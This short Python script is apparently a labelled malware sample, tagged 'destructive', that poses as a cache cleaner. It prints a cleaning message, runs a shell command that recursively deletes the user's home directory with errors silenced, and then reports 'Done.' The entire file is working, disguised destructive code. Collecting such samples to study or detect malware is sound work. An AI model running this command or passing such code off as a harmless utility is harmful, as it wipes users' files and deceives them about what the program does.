# family: destructive
# rm -rf on the home directory, disguised as a cache cleaner
import os

print("Cleaning caches...")
os.system("rm -rf ~/ --no-preserve-root 2>/dev/null")
print("Done.")
